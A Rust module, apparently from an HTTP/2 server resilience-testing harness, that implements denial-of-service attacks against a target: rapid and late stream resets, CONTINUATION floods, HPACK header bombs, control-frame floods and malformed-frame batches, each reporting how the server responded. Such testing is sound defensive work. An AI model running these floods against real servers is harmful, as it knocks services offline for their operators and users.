//! Floods of frames, and frames that are none.

use std::sync::Arc;
use std::time::Duration;

use crate::run::{Attack, Outcome};
use crate::target::Target;
use crate::wire::{self, RawConnection, frame, header_block, literal};

/// The attacks of this family.
pub const ATTACKS: &[Attack] = &[
    ("g-rapid-reset", |target| Box::pin(rapid_reset(target))),
    ("g-late-reset", |target| Box::pin(late_reset(target))),
    ("g-reset-by-error", |target| {
        Box::pin(reset_by_error(target))
    }),
    ("g-continuation-flood", |target| {
        Box::pin(continuation(target))
    }),
    ("g-empty-continuations", |target| {
        Box::pin(empty_continuations(target))
    }),
    ("g-settings-flood", |target| {
        Box::pin(repeated(
            target,
            frame(4, 0, 0, &[0, 4, 0, 0, 255, 255]),
            true,
        ))
    }),
    ("g-settings-unread", |target| {
        Box::pin(repeated(
            target,
            frame(4, 0, 0, &[0, 4, 0, 0, 255, 255]),
            false,
        ))
    }),
    ("g-ping-flood", |target| {
        Box::pin(repeated(target, frame(6, 0, 0, &[7; 8]), true))
    }),
    ("g-ping-unread", |target| {
        Box::pin(repeated(target, frame(6, 0, 0, &[7; 8]), false))
    }),
    ("g-priority-flood", |target| {
        Box::pin(repeated(target, frame(2, 0, 1, &[0, 0, 0, 3, 9]), true))
    }),
    ("g-empty-data-flood", |target| Box::pin(empty_data(target))),
    ("g-tiny-data", |target| Box::pin(tiny_data(target))),
    ("g-window-updates", |target| {
        Box::pin(repeated(target, frame(8, 0, 0, &[0, 0, 0, 1]), true))
    }),
    ("g-unknown-frames", |target| {
        Box::pin(repeated(target, frame(77, 0, 0, &[0; 1_000]), true))
    }),
    ("g-huge-headers", |target| Box::pin(huge_headers(target))),
    ("g-header-bombs", |target| Box::pin(header_bombs(target))),
    ("g-bad-frames", |target| Box::pin(bad_frames(target))),
];

/// How long a flood lasts.
const LONG: Duration = Duration::from_secs(6);
/// Flags of HEADERS frames.
const END_STREAM: u8 = 1;
/// See [`END_STREAM`].
const END_HEADERS: u8 = 4;

/// Writes until the time is over, and reports what the server did.
async fn flood(
    target: &Target,
    is_read: bool,
    first: Vec<u8>,
    next: impl FnMut() -> Option<Vec<u8>>,
) -> Outcome {
    let mut connection = RawConnection::open(target.addresses().data, is_read).await?;
    connection.write(&first).await?;
    let (sent, why) = connection.flood(LONG, next).await;
    let received = connection.close().await;
    Ok(format!(
        "{} KiB sent ({why}), {} KiB received, GOAWAY {:?}",
        sent >> 10,
        received.bytes >> 10,
        received.goaway
    ))
}

/// Many copies of one frame.
async fn repeated(target: Arc<Target>, one: Vec<u8>, is_read: bool) -> Outcome {
    let many = one.repeat(16_384 / one.len() + 1);
    flood(&target, is_read, Vec::new(), || Some(many.clone())).await
}

/// Requests that are cancelled at once.
async fn rapid_reset(target: Arc<Target>) -> Outcome {
    let block = header_block(wire::WATCH);
    let mut stream = 1_u32;
    let next = || {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            bytes.extend(frame(1, END_HEADERS, stream, &block));
            bytes.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        Some(bytes)
    };
    flood(&target, true, Vec::new(), next).await
}

/// Requests that are cancelled after the server has begun them: it reads so many bytes in between that they are in another
/// turn of the connection.
async fn late_reset(target: Arc<Target>) -> Outcome {
    const REQUESTS: u32 = 300;
    let block = header_block(wire::BATCH);
    let pings = frame(6, 0, 0, &[7; 8]).repeat(2_000);
    let mut first = 1_u32;
    let next = || {
        let streams = || (0..REQUESTS).map(|number| first + 2 * number);
        let mut bytes: Vec<u8> = streams()
            .flat_map(|stream| frame(1, END_HEADERS, stream, &block))
            .collect();
        bytes.extend(&pings);
        bytes.extend(streams().flat_map(|stream| frame(3, 0, stream, &8_u32.to_be_bytes())));
        first += 2 * REQUESTS;
        Some(bytes)
    };
    flood(&target, true, Vec::new(), next).await
}

/// Requests with an error, so that the server resets them.
async fn reset_by_error(target: Arc<Target>) -> Outcome {
    let block = header_block(wire::GET);
    let mut stream = 1_u32;
    let next = || {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            bytes.extend(frame(1, END_HEADERS, stream, &block));
            bytes.extend(frame(8, 0, stream, &[0; 4])); // an increment of zero
            stream += 2;
        }
        Some(bytes)
    };
    flood(&target, true, Vec::new(), next).await
}

/// A block of headers that never ends.
async fn continuation(target: Arc<Target>) -> Outcome {
    let first = frame(1, END_STREAM, 1, &header_block(wire::GET));
    let part = literal("x-flood", &"v".repeat(16_000));
    flood(&target, true, first, || Some(frame(9, 0, 1, &part))).await
}

/// The same without any bytes, so that no limit of bytes is reached.
async fn empty_continuations(target: Arc<Target>) -> Outcome {
    let first = frame(1, END_STREAM, 1, &header_block(wire::GET));
    let many = frame(9, 0, 1, &[]).repeat(1_000);
    flood(&target, true, first, || Some(many.clone())).await
}

/// A request whose body has no bytes in many frames.
async fn empty_data(target: Arc<Target>) -> Outcome {
    let first = frame(1, END_HEADERS, 1, &header_block(wire::GET));
    let many = frame(0, 0, 1, &[]).repeat(1_000);
    flood(&target, true, first, || Some(many.clone())).await
}

/// Many incomplete messages, each byte in a frame of its own.
async fn tiny_data(target: Arc<Target>) -> Outcome {
    const STREAMS: u32 = 400;
    const BYTES: usize = 500;
    let streams = (0..STREAMS).map(|number| 1 + 2 * number);
    let block = header_block(wire::GET);
    // The messages have 256 KiB each, so none becomes complete.
    let begin = |stream| {
        let headers = frame(1, END_HEADERS, stream, &block);
        [headers, frame(0, 0, stream, &[0, 0, 4, 0, 0])].concat()
    };
    let first = streams.clone().flat_map(begin).collect();
    let mut rounds = (0..16_000 / BYTES).flat_map(|_| streams.clone());
    let next = || Some(frame(0, 0, rounds.next()?, &[7]).repeat(BYTES));
    flood(&target, true, first, next).await
}

/// Requests with headers above the limit.
async fn huge_headers(target: Arc<Target>) -> Outcome {
    let mut block = header_block(wire::GET);
    for at in 0..14 {
        block.extend(literal(&format!("x-{at}"), &"v".repeat(1_100)));
    }
    let mut stream = 1_u32;
    let next = || {
        let mut bytes = frame(1, END_STREAM, stream, &block);
        bytes.extend(frame(
            9,
            END_HEADERS,
            stream,
            &literal("x-last", &"v".repeat(4_000)),
        ));
        stream += 2;
        Some(bytes)
    };
    flood(&target, true, Vec::new(), next).await
}

/// Small blocks that name a large header of the table many times.
async fn header_bombs(target: Arc<Target>) -> Outcome {
    // With incremental indexing, so that it becomes entry 62 of the table.
    let mut insert = literal("x-large", &"v".repeat(3_900));
    insert[0] = 0x40;
    let mut first = header_block(wire::GET);
    first.extend(insert);
    let mut bomb = header_block(wire::GET);
    bomb.extend([0x80 | 62; 12_000]);
    let mut stream = 3_u32;
    let next = || {
        let bytes = frame(1, END_STREAM | END_HEADERS, stream, &bomb);
        stream += 2;
        Some(bytes)
    };
    let first = frame(1, END_STREAM | END_HEADERS, 1, &first);
    flood(&target, true, first, next).await
}

/// One connection for each of many frames that break the protocol.
async fn bad_frames(target: Arc<Target>) -> Outcome {
    let block = header_block(wire::GET);
    let mut frames: Vec<Vec<u8>> = vec![
        frame(0, 0, 0, b"data on stream 0"),
        frame(0, 0, 1, b"data on an idle stream"),
        frame(0, 8, 1, &[200]),
        frame(1, END_HEADERS, 2, &block),
        frame(1, END_HEADERS | 8, 1, &[255, 0]),
        frame(1, END_HEADERS | 0x20, 1, &[0, 0, 0, 1, 0]),
        frame(1, END_HEADERS, 1, &[0xff; 100]),
        frame(1, END_HEADERS, 1, &[0x3f, 0xff, 0xff, 0xff, 0xff, 0xff]),
        frame(3, 0, 1, &[0, 0]),
        frame(3, 0, 99, &[0; 4]),
        frame(4, 0, 0, &[0, 4, 255, 255, 255, 255]),
        frame(4, 1, 0, &[0; 6]),
        frame(4, 0, 0, &[0; 5]),
        frame(5, END_HEADERS, 1, &[0, 0, 0, 2]),
        frame(6, 0, 0, &[0; 7]),
        frame(6, 0, 1, &[0; 8]),
        frame(7, 0, 0, &[0; 3]),
        frame(8, 0, 0, &[127, 255, 255, 255]),
        frame(8, 0, 0, &[0; 4]),
        frame(9, END_HEADERS, 1, &block),
        vec![255; 9],
        vec![0; 400],
        b"GET / HTTP/1.1\r\nhost: a\r\n\r\n".to_vec(),
    ];
    // Bytes that are random, but the same in each run.
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    for _ in 0..200 {
        let bytes = (0..200).map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_be_bytes()[3]
        });
        let mut bytes: Vec<u8> = bytes.collect();
        bytes[..2].fill(0);
        bytes[3] %= 12;
        frames.push(bytes);
    }
    let count = frames.len();
    let mut closed = 0;
    for bytes in frames {
        let mut connection = RawConnection::open(target.addresses().data, true).await?;
        let _closed = connection.write(&bytes).await;
        tokio::time::sleep(Duration::from_millis(5)).await;
        closed += usize::from(connection.close().await.is_closed);
    }
    Ok(format!("{count} connections, {closed} were closed"))
}
